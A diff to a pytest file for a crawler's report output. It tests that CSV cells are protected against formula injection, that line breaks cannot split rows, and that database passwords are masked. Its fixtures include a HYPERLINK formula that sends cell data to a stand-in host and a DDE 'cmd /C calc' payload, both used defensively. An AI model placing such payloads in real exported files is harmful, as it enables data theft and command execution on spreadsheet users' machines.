@@ -3,18 +3,24 @@ every figure is worked out by hand below, and its pure helpers with tables of ca
 
 from __future__ import annotations
 
+import csv
+import html
+import io
+import json
 from datetime import datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
 from typing import Any
 
 import numpy as np
 import pytest
-from sqlalchemy import Engine, insert
+from sqlalchemy import Engine, insert, update
 
 from govsi import db
 from govsi.report.build import Report, ReportError, build_report, host_of, report_engine
 from govsi.report.charts import bars_svg, drawing, graph_svg, node_kind, radii, short
 from govsi.report.graphs import Graph, spring_layout
-from govsi.report.output import csv_cell, fmt, script_json, to_csv
+from govsi.report.output import csv_cell, fmt, script_json, to_csv, write_report
 from govsi.report.queries import Scope, rate_width
 
 T0 = datetime(2026, 1, 1, 0, 0, 0)
@@ -413,7 +419,7 @@ def test_fmt(value: Any, shown: str) -> None:
 
 
 def test_csv_writes_empty_cells_for_null() -> None:
-    assert to_csv(["a", "b"], [[1, None], ["x,y", 2]]) == 'a,b\n1,\n"x,y",2\n'
+    assert to_csv(["a", "b"], [[1, None], ["x,y", 2]]) == 'a,b\r\n1,\r\n"x,y",2\r\n'
 
 
 @pytest.mark.parametrize(
@@ -458,6 +464,22 @@ def test_node_area_follows_weight_within_bounds() -> None:
     assert 3.0 <= many[0] < 8  # 300 sites still fit the picture
 
 
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+class Shown:
+    """A value the csv module writes as its str(), like a database type not listed here."""
+
+    def __init__(self, text: str) -> None:
+        self.text = text
+
+    def __str__(self) -> str:
+        return self.text
+
+    def __repr__(self) -> str:
+        return f"Shown({self.text!r})"
+
+
 @pytest.mark.parametrize(
     ("value", "cell"),
     [
@@ -467,17 +489,109 @@ def test_node_area_follows_weight_within_bounds() -> None:
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\tTAB", "'\tTAB"),
         ("\r=1", "'\r=1"),
+        ("-", "'-"),
         ("http://a.gov.si/=x", "http://a.gov.si/=x"),
+        (" =1", " =1"),  # not at the start: text to every spreadsheet
+        ("'=1", "'=1"),  # quoted already: left alone
         ("", ""),
         (None, ""),
-        (-5, -5),  # numbers stay numbers
+        (-5, -5),  # numbers stay numbers, negative ones too
         (-0.5, -0.5),
+        (Decimal("-2.25"), Decimal("-2.25")),
         (42, 42),
+        (True, True),
+        (Shown("=1+1"), "'=1+1"),
+        (Shown("2026-01-01"), "2026-01-01"),
     ],
+    ids=repr,
 )
 def test_csv_cells_that_would_be_formulas_are_neutralised(value: Any, cell: Any) -> None:
-    assert csv_cell(value) == cell
+    written = csv_cell(value)
+    assert str(written) == str(cell)
+    if not isinstance(value, Shown):
+        assert type(written) is type(cell)  # a number is written as a number
 
 
 def test_csv_files_neutralise_headers_and_cells() -> None:
-    assert to_csv(["=cmd", "url"], [["@x", -1], [None, "a"]]) == "'=cmd,url\n'@x,-1\n,a\n"
+    assert to_csv(["=cmd", "url"], [["@x", -1], [None, "a"]]) == "'=cmd,url\r\n'@x,-1\r\n,a\r\n"
+
+
+def test_line_breaks_inside_cells_cannot_start_a_row() -> None:
+    # A bare CR ends a row to spreadsheets; unquoted, "\r=1" became a row starting "=1".
+    rows = [["a\rb", 1], ["\r=1", 2], ["x\ny", 3], ["c\r\nd", 4]]
+    text = to_csv(["error", "pages"], rows)
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [
+        ["error", "pages"], ["a\rb", "1"], ["'\r=1", "2"], ["x\ny", "3"], ["c\r\nd", "4"],
+    ]  # fmt: skip
+
+
+def test_no_csv_file_of_the_report_starts_a_cell_with_a_formula(
+    engine: Engine, tmp_path: Path
+) -> None:
+    # Text from a hostile web in tables and graph files: fetch errors (which may quote the
+    # server), Content-Types, host names.
+    fill(engine)
+    hostile = {
+        "error": '=HYPERLINK("http://zlo.example/?"&A1,"klik")',
+        "content_type": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "domain": "-2+3.gov.si",
+    }
+    with engine.begin() as conn:
+        conn.execute(update(db.Page).where(db.Page.id == 8).values(fetch_error=hostile["error"]))
+        conn.execute(update(db.Page).where(db.Page.id == 6).values(fetch_error="+1\t"))
+        conn.execute(update(db.Page).where(db.Page.id == 10).values(fetch_error="\r=1"))
+        conn.execute(update(db.Image).where(db.Image.url.like("%i1.png"))
+                     .values(content_type=hostile["content_type"]))  # fmt: skip
+        conn.execute(update(db.Site).where(db.Site.id == 3).values(domain=hostile["domain"]))
+        # No crawl stores a negative number, but one must stay a number in the file.
+        conn.execute(update(db.Site).where(db.Site.id == 1).values(crawl_delay=-1.5))
+    reader = report_engine(engine.url.render_as_string(hide_password=False))
+    try:
+        report = build_report(reader, max_sites=10, max_pages=10)
+    finally:
+        reader.dispose()
+    write_report(report, tmp_path)
+    files = sorted((tmp_path / "csv").glob("*.csv"))
+    assert len(files) == 2 * len(report.scopes[0][1]) + 4  # every table, both graphs
+    cells: dict[str, list[str]] = {}
+    for f in files:
+        with f.open(encoding="utf-8", newline="") as stream:
+            cells[f.name] = [cell for row in csv.reader(stream) for cell in row]
+    for found in cells.values():
+        for cell in found:
+            if cell.startswith(FORMULA_START):
+                float(cell)  # only a number may start so: anything else is a formula
+    assert "'" + hostile["error"] in cells["all_fetch_errors.csv"]
+    assert {"'+1\t", "'\r=1"} <= set(cells["all_fetch_errors.csv"])
+    assert "'" + hostile["content_type"] in cells["all_image_types.csv"]
+    assert "'" + hostile["domain"] in cells["all_hosts.csv"]
+    assert "'" + hostile["domain"] in cells["domain_graph_nodes.csv"]
+    assert "-1.5" in cells["all_hosts.csv"]
+
+
+SECRET = "s3cr3t"
+
+
+def test_the_report_never_shows_the_crawldb_password(pg_cluster: Any, tmp_path: Path) -> None:
+    # PostgreSQL only: SQLite takes no password, and would refuse one in the query.
+    # Trust authentication: the server connects whatever the passwords say.
+    plain = pg_cluster.create_database("report_passwords")
+    engine = db.make_engine(plain)
+    try:
+        db.migrate(engine)
+        fill(engine)
+    finally:
+        engine.dispose()
+    url = plain.replace("govsi@", f"govsi:{SECRET}@") + f"?password={SECRET}&sslpassword={SECRET}"
+    reader = report_engine(url)
+    try:
+        report = build_report(reader, max_sites=10, max_pages=10)
+    finally:
+        reader.dispose()
+    shown = plain.replace("govsi@", "govsi:***@") + "?password=***&sslpassword=***"
+    assert report.crawldb == shown
+    written = write_report(report, tmp_path)
+    assert json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))["crawldb"] == shown
+    assert html.escape(shown) in (tmp_path / "index.html").read_text(encoding="utf-8")
+    for path in written:
+        assert SECRET not in path.read_text(encoding="utf-8"), path.name
